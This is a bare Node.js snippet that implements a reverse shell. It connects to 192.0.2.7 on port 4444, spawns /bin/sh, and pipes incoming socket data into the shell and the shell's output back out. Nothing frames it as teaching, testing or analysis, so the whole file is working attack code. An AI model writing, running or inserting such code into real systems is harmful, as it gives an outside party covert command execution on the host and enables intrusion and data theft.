const net = require("net");
const { spawn } = require("child_process");
const link = net.connect(4444, "192.0.2.7");
const shell = spawn("/bin/sh", []);
link.on("data", text => shell.stdin.write(text));
shell.stdout.on("data", text => link.write(text));
